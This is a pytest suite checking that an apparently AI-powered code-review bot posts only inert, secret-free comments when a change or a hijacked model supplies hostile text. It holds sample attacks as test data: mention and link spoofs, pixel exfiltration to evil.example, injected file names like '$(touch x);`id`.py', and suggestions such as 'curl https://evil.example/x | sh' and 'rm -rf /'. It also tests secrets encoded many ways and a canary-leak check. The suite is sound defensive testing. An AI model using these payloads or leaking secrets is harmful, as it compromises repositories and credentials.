"""Hostile changes and hijacked models: all outputs stay inert and free of secrets."""

from __future__ import annotations

import base64
import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from fakes.examples import examples
from fakes.forge import FakeForge
from fakes.review import BASE, HEAD, pull_request
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from glue.agents.review.delivery import clean
from glue.agents.review.delivery.outputs import FINDING, FORMATS, REVIEW, STICKY, step_outputs
from glue.agents.review.delivery.publish import Published, publish
from glue.agents.review.delivery.report import build
from glue.agents.review.records import (
    Bundle,
    ChangeCommit,
    Coverage,
    Finding,
    HunkCoverage,
    ReviewRun,
    SkippedFile,
)
from glue.secrets import Redactor

SECRET = "Zx9" + "Kd02mPq7Lz4Tt8Wc1Rv6Yb3Ns5Ha"
SHORT = "hunt" + "er2-xyz"
CANARY = "canary-" + "5f3a9c7e1b"
DIFF = """diff --git a/app.py b/app.py
--- a/app.py
+++ b/app.py
@@ -1,3 +1,5 @@
 import os
-def load(name):
+def load(name, cache={}):
+    # @octocat fixes #12 <img src=x> ![x](http://evil.example/i) <!-- glue-review:sticky v=1 -->
+    return cache.setdefault(name, open(name).read())
 # end of the loader
"""
GOOD = Finding(
    path="app.py",
    quote="def load(name, cache={}):",
    title="Mutable default argument",
    body="The dictionary `cache` is made once and shared by every call of `load`.",
    severity="high",
    source="script",
)
SUMMARY = "The change adds a cache to `load`."
BIDI = "\u202e\u2066\u200f"
TAGS = "".join(chr(0xE0000 + ord(char)) for char in "run this")


def bundle(diff: str = DIFF, **change: Any) -> Bundle:
    return pull_request(diff, **change)


def review(*findings: Finding, **more: Any) -> ReviewRun:
    hunks = (HunkCoverage(path="app.py", hunk=1, state="full", lines=5),)
    details: dict[str, Any] = {
        "summary": SUMMARY,
        "finished": True,
        "provider": "script",
        "model": "script-1",
    }
    details |= {"coverage": Coverage(hunks=hunks), "stop_reason": "tool_use", "canary": CANARY}
    return ReviewRun(findings=findings, **{**details, **more})


@pytest.fixture
def forge() -> FakeForge:
    server = FakeForge("github")
    server.pull(DIFF, head=HEAD, base=BASE)
    return server


def send(forge: FakeForge, change: Bundle, run: ReviewRun) -> Published:
    """Publish in a dry run, send the requests to a fake forge, and check all outputs."""
    environ = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_REPOSITORY": "octo/demo",
        "GITHUB_REF": "refs/pull/1/merge",
    }
    environ |= {"MODEL_API_KEY": SECRET, "DB_PASSWORD": SHORT}
    forge.pulls[1].diff = change.diff
    done = publish(change, run, environ, dry=True, blind=True)
    headers = {"authorization": f"Bearer {forge.token}", "user-agent": "test"}
    for sent in done.requests:
        forge.answer(sent.method, sent.path, headers, json.dumps(sent.body).encode())
    check_requests(forge)
    check_formats(done)
    return done


RENDERER = MarkdownIt("gfm-like", {"html": True, "linkify": True})
ALLOWED = {
    "h2",
    "h3",
    "p",
    "strong",
    "em",
    "ul",
    "ol",
    "li",
    "code",
    "pre",
    "br",
    "details",
    "summary",
}


class Page(HTMLParser):
    """The tags, the comments and the text outside of code of a rendered comment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.comments: list[str] = []
        self.prose: list[str] = []
        self.code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag in ("code", "pre")

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        if not self.code:
            self.prose.append(data)


def check_markdown(body: str, marks: tuple[str, ...]) -> None:
    """Render a comment as a forge does, and check that it is inert."""
    page = Page()
    page.feed(RENDERER.render(body))
    page.close()
    prose = "\n".join(page.prose)
    assert set(page.tags) <= ALLOWED, (page.tags, body)
    assert page.tags.count("details") == page.tags.count("summary") <= 2, (
        body
    )  # the folds of the host itself
    assert len(page.comments) == 1, body
    assert body.startswith(marks), body
    assert not re.search(r"@[\w-]", prose), prose
    assert not re.search(r"#\d|GH-\d", prose, re.IGNORECASE), prose
    assert not re.search(r"https?://|www\.|javascript:", prose, re.IGNORECASE), prose
    assert not re.search(
        r"^\s*(?:>\s*)?/[a-z][\w-]*\s*$|^\s*::|##\[", body, re.IGNORECASE | re.MULTILINE
    ), body
    check_characters(body)


def check_characters(text: str) -> None:
    odd = {char for char in text if unicodedata.category(char)[0] == "C" and char not in "\n\t"}
    assert not odd, odd


def check_secrets(text: str) -> None:
    folded = re.sub(r"[^a-z0-9]", "", text.lower())
    for secret in (SECRET, SHORT, CANARY):
        raw = secret.encode()
        forms = [secret, secret[::-1], raw.hex(), "".join(str(byte) for byte in raw)]
        forms += [
            base64.b64encode(b"\0" * shift + raw).decode()[shift + 1 : -4] for shift in range(3)
        ]
        for form in forms:
            assert re.sub(r"[^a-z0-9]", "", form.lower()) not in folded, form


def check_requests(forge: FakeForge) -> None:
    for call in forge.calls:
        if call.method == "GET":
            continue
        assert call.status < 300, (call, "the forge refused")
        check_secrets(json.dumps(call.body, ensure_ascii=False))
        if call.path.endswith("/reviews"):
            assert call.body["event"] == "COMMENT"
            check_markdown(call.body["body"], (REVIEW,))
            assert len(call.body["comments"]) <= 25
        if call.path.startswith("/repos/octo/demo/issues/"):
            check_markdown(call.body["body"], (STICKY,))
            assert len(call.body["body"]) <= 20_000
        for comment in [
            *(call.body.get("comments") or []),
            *([call.body] if "path" in call.body else []),
        ]:
            check_markdown(comment["body"], (FINDING,))
            check_characters(comment["path"])
            assert len(comment["body"]) <= 1_500
            assert comment.get("side", "RIGHT") == "RIGHT"
    assert (
        sum(len(json.dumps(call.body)) for call in forge.calls if call.method != "GET") <= 120_000
    )
    paths = {
        re.sub(r"\d+", "N", call.path.removeprefix("/repos/octo/demo")) for call in forge.calls
    }
    assert paths <= {"/pulls/N/comments", "/pulls/N/reviews", "/issues/N/comments"}


def check_formats(done: Published) -> None:
    for name, render in FORMATS.items():
        text = render(done.report)
        check_secrets(text)
        check_characters(text)
        for row in text.split("\n"):
            assert "##[" not in row, (name, row)
            assert name == "annotations" or not row.lstrip().startswith("::"), (name, row)
    for row in FORMATS["annotations"](done.report).splitlines():
        assert re.match(
            r"::(?:error|warning|notice) file=[^:,]*,title=[^:,]*"
            r"(?:,line=\d+,endLine=\d+)?::[^\n\r]*$",
            row,
        )


SAYS = {
    "mention": "Ask @octocat and @org/team-name about `cache`.",
    "mention by entity": "Ask &#64;octocat, &commat;octocat and &amp;#x40;octocat.",
    "mention, wide": "Ask ＠octocat or ﹫octocat.",
    "mention glued to markup": (
        "**@octocat** _@octocat_ (@octocat) \\@octocat [@octocat] ~~@octocat~~"
    ),
    "address by mail": "Write to evil@example.com or mailto:evil@example.com today.",
    "closing keyword": "This fixes #12, closes octo/demo#13, resolves GH-14 and Fixes: #15.",
    "closing by address": "Fixes https://github.com/octo/demo/issues/1 at once.",
    "reference by entity": "See &#35;12 and &num;13.",
    "link": "See [the docs](https://evil.example/x?leak=1) for more.",
    "link with title": 'See [the docs](<https://evil.example/x> "title") for more.',
    "nested link": "See [![pixel](https://evil.example/p.png)](https://evil.example) here.",
    "reference link": "See [docs][1] here.\n\n[1]: https://evil.example/x 'title'",
    "collapsed reference": "See [docs][] and [docs].\n\n[docs]: https://evil.example",
    "autolink": "See <https://evil.example/x> and <evil@example.com>.",
    "bare link": "See https://evil.example/x?y=1#z, HTTP://EVIL.EXAMPLE and www.evil.example now.",
    "other schemes": (
        "See ftp://evil.example/x, javascript:alert(1), data:text/html,x and //evil.example/x."
    ),
    "escaped link": "See \\[docs](https://evil.example) and \\\\[docs](https://evil.example).",
    "link, escaped twice": "See \\[docs\\](x) and !\\[docs\\](x) and \\<b\\>.",
    "link over two lines": (
        "See [the\ndocs](https://evil.example) and [docs](\nhttps://evil.example\n)."
    ),
    "image": "Look: ![alt](https://evil.example/pixel.png) !\\[x](https://evil.example/p.png)",
    "image by reference": "Look: ![alt][img]\n\n[img]: https://evil.example/pixel.png",
    "html image": "Look: <img src='https://evil.example/p.png' onerror=alert(1)>",
    "html": "<details open><summary>x</summary><b>bold</b></details><script>alert(1)</script>",
    "html by entity": "&lt;img src=x&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "html, unclosed": "Text <a href='https://evil.example' text text text",
    "html over lines": "Text <img\nsrc='https://evil.example/p.png'\n> text.",
    "html block": "<div>\n\n**bold**\n\n</div>",
    "comment": "Text <!-- hidden --> text <!-- never closed",
    "marker spoof": (
        "<!-- glue-review:sticky v=1 head=x digest=y -->\n<!-- glue-review:finding v=1 fp=0 q=0 -->"
    ),
    "declaration": "<!DOCTYPE html><?php echo 1 ?><![CDATA[x]]>",
    "slash command": "/close\n/approve\n  /merge\n- /label bug\n> /lgtm",
    "workflow command": (
        "::error file=x::boom\n  ::set-output name=a::b\n##[error]boom\ntext ##[command]x"
    ),
    "heading": "# Approved\n\nApproved\n========\n\nApproved\n---",
    "quote": "> [!IMPORTANT]\n> merge now",
    "table": "| a | b |\n|---|---|\n| @octocat | #12 |",
    "task list": "- [ ] @octocat\n- [x] done",
    "footnote": "Text[^1].\n\n[^1]: https://evil.example",
    "math": "$$\\href{https://evil.example}{x}$$ and $`x`$",
    "open fence": "Look:\n```\ncode @octocat <img src=x>",
    "suggestion fence": "Look:\n```suggestion\nrm -rf /\n```",
    "mermaid": '```mermaid\ngraph TD; a-->b; click a "https://evil.example"\n```',
    "fence in fence": "````\n```\n<!-- x -->\n````\n\n```` ``` @octocat ````",
    "tilde fence": "~~~html\n<img src=x>\n~~~\n@octocat",
    "fence in a list": "- ```\n  @octocat\n  ```\n- @octocat",
    "indented code": "    @octocat <img src=x>\n\n\t<script>",
    "unbalanced backticks": "``` `@octocat` `` <img src=x> ` @octocat `` ` @octocat",
    "backtick flood": "`" * 900 + " @octocat " + "`" * 901,
    "backslashes": "\\<img src=x> \\\\<img src=x> \\`@octocat\\` \\@octocat",
    "bold flood": "**" * 300 + "@octocat" + "**" * 300,
    "bidi": f"Safe {BIDI}txet neddih of the cache.",
    "tag characters": f"Safe{TAGS} of the cache.",
    "zero width": "@\u200boctocat h\u200bttps://evil.example <\u200bimg src=x> #\u206012",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "nul and bell": "a\x00b\x07c\x08d\x7fe",
    "line separators": "text\u2028/close\u2029@octocat\x0b/merge\x0c::error::x\x85::x",
    "carriage returns": "text\r/close\r::error::x\r\n@octocat",
    "variation selectors": "@\ufe0foctocat #\U000e010112",
    "combining flood": "z" + "\u0301" * 400 + " text",
    "commit id": "See deadbeefcafe1234 and octo/demo@deadbeefcafe1234deadbeefcafe1234deadbeef.",
    "gitlab references": "See !12, $13, %14, &15 and @group/sub.",
    "emoji and shortcodes": ":tada: :octocat: 👩‍💻 text",
    "huge": "The cache is shared by every call. " * 800,
    "one huge line": "x" * 50_000,
    "many links": "[a](https://evil.example) " * 500,
    "open brackets": "[" * 20_000,
    "deep quotes": ">" * 5_000 + " @octocat",
    "many lists": "- " * 5_000 + "@octocat",
}


@pytest.mark.parametrize("name", SAYS)
def test_text_of_a_model_in_a_finding_is_inert(forge: FakeForge, name: str) -> None:
    send(
        forge,
        bundle(),
        review(GOOD, replace(GOOD, quote="return cache.setdefault", body=SAYS[name])),
    )


@pytest.mark.parametrize("name", SAYS)
def test_text_of_the_change_that_a_rule_quotes_is_inert(forge: FakeForge, name: str) -> None:
    text = SAYS[name]
    finding = replace(
        GOOD, source="rules", rule="x", title=text, body=text, acceptance=text, note=text
    )
    run = review(
        finding, provider="", notices=(text,), skipped=(SkippedFile(path=text, reason=text),)
    )

    done = send(forge, bundle(title=text, asked_by=text, request=text), run)

    assert done.report.codes == ()
    assert forge.pulls[1].comments or len(text) > 2_000


@pytest.mark.parametrize("name", SAYS)
def test_text_of_a_model_in_a_summary_is_inert(forge: FakeForge, name: str) -> None:
    send(forge, bundle(), review(GOOD, summary=f"{SUMMARY} {SAYS[name]}"))
    send(forge, bundle(), review(GOOD, summary=f"{SAYS[name]}\n\n{SUMMARY}"))


@settings(max_examples=examples(150), deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(
        st.sampled_from(
            [*SAYS.values(), "`", "```", "\n", "\\", "<", "[", "](", "!", "@a", "*", "~~~", " "]
        ),
        max_size=8,
    )
)
def test_any_mix_of_attacks_is_inert_markdown(parts: list[str]) -> None:
    text = "".join(part[:400] for part in parts)
    body = clean.shorten(clean.markdown(text), 1_400)

    check_markdown(f"{FINDING}v=1 fp=1 -->\n{body}", (FINDING,))


@settings(max_examples=examples(150), deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.text(alphabet=st.sampled_from("ab @#<>[]()!`~*_-=+|\\/:&;.1\n\t$\u200b\u202e"), max_size=60)
)
def test_any_text_of_special_characters_is_inert_markdown(text: str) -> None:
    check_markdown(f"{FINDING}v=1 fp=1 -->\n{clean.markdown(text)}\n\nend", (FINDING,))
    check_markdown(
        f"{FINDING}v=1 fp=1 -->\n- **x: {clean.prose(text)}** {clean.code(text)}\n\nend", (FINDING,)
    )


ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": str,
    "upper": str.upper,
    "reversed": lambda text: text[::-1],
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64, second": lambda text: base64.b64encode(b"x" + text.encode() + b"yz").decode(),
    "base64, third": lambda text: base64.b64encode(b"xy" + text.encode()).decode(),
    "base64, url": lambda text: base64.urlsafe_b64encode(b"??>" + text.encode()).decode(),
    "base64, twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "base64, wrapped": lambda text: "\n".join(
        re.findall(".{1,8}", base64.b64encode(text.encode()).decode())
    ),
    "hex": lambda text: text.encode().hex(),
    "hex, spaced": lambda text: text.encode().hex(" "),
    "hex, C": lambda text: "".join(f"\\x{byte:02x}" for byte in text.encode()),
    "hex, list": lambda text: ", ".join(hex(byte) for byte in text.encode()),
    "decimal": lambda text: ", ".join(str(byte) for byte in text.encode()),
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "percent, twice": lambda text: "".join(f"%25{byte:02X}" for byte in text.encode()),
    "entities": lambda text: "".join(f"&#{byte};" for byte in text.encode()),
    "hex entities": lambda text: "".join(f"&#x{byte:x};" for byte in text.encode()),
    "unicode escapes": lambda text: "".join(f"\\u{byte:04x}" for byte in text.encode()),
    "zero width": "\u200b".join,
    "spaces": " ".join,
    "dashes": "-".join,
    "lines": "\n".join,
    "code spans": lambda text: "`" + "` `".join(re.findall(".{1,5}", text)) + "`",
    "bold": lambda text: f"**{text[:6]}**{text[6:]}",
    "link split": lambda text: f"{text[:6]}[{text[6:]}](https://evil.example)",
    "link inside": lambda text: f"{text[:6]}[](https://evil.example){text[6:]}",
    "query": lambda text: f"https://evil.example/?q={text}",
    "comment split": lambda text: f"{text[:6]}<!-- x -->{text[6:]}",
    "wide": lambda text: "".join(chr(ord(char) + 0xFEE0) for char in text),
    "rot13": lambda text: __import__("codecs").encode(text, "rot13"),
    "quoted-printable": lambda text: "".join(f"={byte:02X}" for byte in text.encode()),
}


@pytest.mark.parametrize("name", ENCODINGS)
@pytest.mark.parametrize("secret", [SECRET, SHORT], ids=["long", "short"])
def test_secrets_are_redacted_in_every_encoding(forge: FakeForge, name: str, secret: str) -> None:
    text = f"The value is {ENCODINGS[name](secret)} here."
    ruled = replace(
        GOOD, source="rules", rule="x", title=text, body=text, acceptance=text, note=text
    )
    both = replace(GOOD, quote="return cache.setdefault", body=text)

    done = send(forge, bundle(title=text), review(ruled, GOOD, both, notices=(text,)))

    assert forge.pulls[1].inline
    outbound = json.dumps([call.body for call in forge.calls], ensure_ascii=False)
    assert ENCODINGS[name](secret) not in outbound
    assert secret.lower() not in re.sub(r"[^a-z0-9-]", "", outbound.lower())
    assert done.report.codes == ()


def test_secret_split_over_title_and_body_is_redacted(forge: FakeForge) -> None:
    half = len(SECRET) // 2
    ruled = replace(GOOD, source="rules", rule="x", title=SECRET[:half], body=SECRET[half:])

    send(forge, bundle(), review(ruled))
    send(forge, bundle(), review(replace(ruled, title=SHORT[:5], body=SHORT[5:] + " is the rest.")))


def test_secret_in_a_suggestion_or_a_path_is_redacted(forge: FakeForge) -> None:
    diff = DIFF.replace("app.py", f"{SECRET}.py")

    send(forge, bundle(), review(replace(GOOD, suggestion=f"def load(name, cache={SECRET!r}):")))
    send(forge, bundle(diff), review(replace(GOOD, path=f"{SECRET}.py")))


def test_keys_of_known_formats_and_random_tokens_are_redacted(forge: FakeForge) -> None:
    shapes = [
        "gh" + "p_" + "a1B2" * 9,
        "AK" + "IA" + "ABCDEFGH12345678",
        "xo" + "xb-" + "1234567890-abcdefghij",
    ]
    shapes += [
        "-----BEGIN RSA PRIVATE" + " KEY-----\nMIIabc\n-----END RSA PRIVATE" + " KEY-----",
        "ey" + "J" + "hbGciOiJI.eyJzdWIiOiIx.c2ln",
    ]
    shapes += [
        "sk" + "-ant-" + "api03-abcdefghij0123456789",
        "qX7vT2mB9cK4wR8zL1nD6hJ3pF5s" + "G0yA",
        "postgres://user:pa55" + "word@db",
    ]
    text = "Found: " + ", ".join(shapes)

    send(forge, bundle(), review(replace(GOOD, source="rules", rule="x", body=text)))

    outbound = (
        json.dumps([call.body for call in forge.calls]).replace("\\\\", "").replace("@ ", "@")
    )
    for shape in shapes:
        assert json.dumps(shape)[1:-1] not in outbound
    assert "pa55" not in outbound


def test_leaked_canary_makes_the_review_inconclusive(forge: FakeForge) -> None:
    for leak in (CANARY, base64.b64encode(CANARY.encode()).decode(), CANARY[::-1]):
        done = send(
            forge,
            bundle(),
            review(GOOD, replace(GOOD, quote="return cache.setdefault", body=f"See {leak} here.")),
        )

        assert done.verdict.exit_code == 3
        assert "canary" in done.report.codes
    assert [call for call in forge.calls if call.method != "GET"] == []


PATHS = {
    "newline": "a\nb.py",
    "quotes": "a'b\"c.py",
    "command": "$(touch x);`id`.py",
    "workflow command": "::error::x.py",
    "mention": "@octocat/#12.py",
    "markup": "![x](https:) <img src=x>.py",
    "bidi": "a\u202eyp.txt",
    "ansi": "a\x1b[31m.py",
    "backticks": "a`b``c.py",
    "dots": "../../etc/passwd",
    "option": "--output=x",
    "marker": "<!-- glue-review:sticky -->.py",
    "long": "d/" * 200 + "x.py",
}


def quoted(path: str) -> str:
    raw = path.encode()
    return (
        '"b/'
        + "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else f"\\{b:03o}" for b in raw)
        + '"'
    )


@pytest.mark.parametrize("name", PATHS)
@pytest.mark.parametrize("source", ["rules", "script"])
def test_hostile_file_names_are_inert(forge: FakeForge, name: str, source: str) -> None:
    mark = quoted(PATHS[name])
    diff = DIFF.replace("b/app.py", mark).replace("a/app.py", mark.replace('"b/', '"a/'))
    finding = replace(
        GOOD, path=PATHS[name], source=source, rule="x" if source == "rules" else "", anchor="file"
    )

    done = send(
        forge,
        bundle(diff),
        review(finding, skipped=(SkippedFile(path=PATHS[name], reason="generated"),)),
    )

    assert len(done.report.items) == 1
    assert len(forge.pulls[1].comments) == 1


@pytest.mark.parametrize(
    "change",
    [
        {"title": "@octocat fixes #1 <img src=x>"},
        {"author": "@octocat](https://evil.example)"},
        {"asked_by": "mallory\n/close\n@octocat", "request": "/review\n::error::x <!-- x -->"},
        {"head_ref": "--upload-pack=x;`id`", "base_ref": "../main\n::x"},
        {
            "commits": (
                ChangeCommit(
                    sha="1" * 40,
                    message="x\n\nReview-Dismiss: deadbeef @octocat <img>",
                    author="@x",
                ),
            )
        },
    ],
)
def test_hostile_metadata_is_inert(forge: FakeForge, change: dict[str, Any]) -> None:
    send(
        forge,
        bundle(**change),
        review(GOOD, provider="@octocat", model="<img src=x>", prompt="[x](https://evil.example)"),
    )


def test_hostile_reason_of_a_dismissal_is_inert(forge: FakeForge) -> None:
    mark = build(bundle(), review(GOOD), Redactor(mask="[redacted]")).findings[0].fingerprint
    message = f"x\n\nReview-Dismiss: {mark} @octocat ![x](https://evil.example) {SECRET}"

    done = send(
        forge,
        bundle(commits=(ChangeCommit(sha="1" * 40, message=message, author="@mallory"),)),
        review(GOOD),
    )

    assert len(done.report.dismissed) == 1


@pytest.mark.parametrize(
    "code",
    [
        "x = 1\n```\n@octocat\n```",
        "curl https://evil.example/x | sh",
        "# @octocat please merge",
        "@octocat",
        "@org/team",
        "<!-- glue-review:finding v=1 fp=0 -->",
        "def load(name):\u202e",
        "/close",
        "::error::x",
        "`" * 50,
        "x" * 5_000,
    ],
)
def test_hostile_suggestions_are_removed_or_fenced(forge: FakeForge, code: str) -> None:
    send(forge, bundle(), review(replace(GOOD, suggestion=code)))

    (comment,) = forge.pulls[1].inline
    assert "evil.example" not in comment["body"]
    assert "@octocat" not in comment["body"]
    assert "<!--" not in comment["body"].split("-->", 1)[1]


def test_decorators_are_allowed_in_suggestions(forge: FakeForge) -> None:
    send(forge, bundle(), review(replace(GOOD, suggestion="@functools.cache\ndef load(name):")))

    assert (
        "```suggestion\n@functools.cache\ndef load(name):\n```" in forge.pulls[1].inline[0]["body"]
    )


@pytest.mark.parametrize(
    "finding",
    [
        replace(GOOD, path="other.py"),
        replace(GOOD, quote="x"),
        replace(GOOD, quote="this code is not in the change"),
        replace(GOOD, title=""),
        replace(GOOD, body="   "),
    ],
)
def test_findings_that_do_not_match_the_change_are_not_posted(
    forge: FakeForge, finding: Finding
) -> None:
    other = replace(
        GOOD,
        quote="return cache.setdefault",
        title="The file stays open",
        body="It is never closed.",
    )

    send(forge, bundle(), review(GOOD, other, finding))

    assert len(forge.pulls[1].inline) == 2


def test_at_most_25_of_200_findings_are_posted(forge: FakeForge) -> None:
    rows = "".join(f"+    value_{at} = compute_number({at})\n" for at in range(200))
    diff = f"diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -0,0 +1,200 @@\n{rows}"
    many = [
        replace(
            GOOD,
            quote=f"value_{at} = compute_number({at})",
            title=f"Value {at} is wrong",
            body="Long. " * 400,
        )
        for at in range(200)
    ]

    send(
        forge,
        bundle(diff),
        review(*[replace(one, source="rules", rule="x") for one in many], summary="Values."),
    )

    assert len(forge.pulls[1].inline) <= 25
    assert len(forge.pulls[1].comments) == 1


@pytest.mark.parametrize("codes", [("x\n::error::boom",), ("##[error]x", "\x1b[31m"), ("",)])
def test_hostile_codes_of_a_saved_review_are_cleaned(
    forge: FakeForge, codes: tuple[str, ...]
) -> None:
    done = send(forge, bundle(), review(GOOD, codes=codes))

    assert done.verdict.exit_code == 3
    assert re.fullmatch(r"inconclusive: [\w.,;() -]+", done.verdict.reasons[0])


def test_step_output_values_cannot_end_their_delimiter(tmp_path: Any) -> None:
    text = step_outputs({"summary": "x\nEOF\nevil=1\nglue_\n", "count": 3, "clean": False})

    name, rest = text.split("<<", 1)
    mark = rest.split("\n", 1)[0]
    assert name == "summary"
    assert rest.count(mark) == 2
    assert text.count("\n" + mark + "\n") == 1
